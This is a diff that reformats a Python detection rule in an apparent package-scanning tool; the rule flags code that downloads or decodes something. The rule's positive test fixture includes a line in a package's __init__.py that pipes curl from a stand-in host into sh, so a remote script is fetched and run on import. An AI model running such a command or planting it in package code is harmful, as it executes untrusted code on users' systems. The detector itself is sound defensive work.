@@ -7,7 +7,6 @@ from typing import TYPE_CHECKING
 from veln_hook.signals.source.rule import BY_ITSELF, HOLD, INFO, Hit, Rule
 from veln_hook.source import vocabulary as v
 
-
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
@@ -18,7 +17,11 @@ def _find(view: View) -> Iterator[Hit]:
     for command in view.of(v.PROC):
         flags = set(command.flags)
         if "download" in flags:
-            yield Hit(f"it runs {command.detail or 'a command'} to fetch or decode something", (command,), HOLD if command.reach in BY_ITSELF else INFO)
+            yield Hit(
+                f"it runs {command.detail or 'a command'} to fetch or decode something",
+                (command,),
+                HOLD if command.reach in BY_ITSELF else INFO,
+            )
 
 
 RULE = Rule(
@@ -27,6 +30,8 @@ RULE = Rule(
     grade=HOLD,
     find=_find,
     fires={"acme/__init__.py": "import os\nos.system('curl -s https://example.test/i.sh | sh')\n"},
-    quiet={"acme/__init__.py": "import subprocess\nVERSION = 1\n\ndef version():\n    return subprocess.run(['git', '--version'])\n"},
+    quiet={
+        "acme/__init__.py": "import subprocess\nVERSION = 1\n\ndef version():\n    return subprocess.run(['git', '--version'])\n"
+    },
     rates="97 of 2,004 malicious clusters, 1 of 200 popular archives",
 )
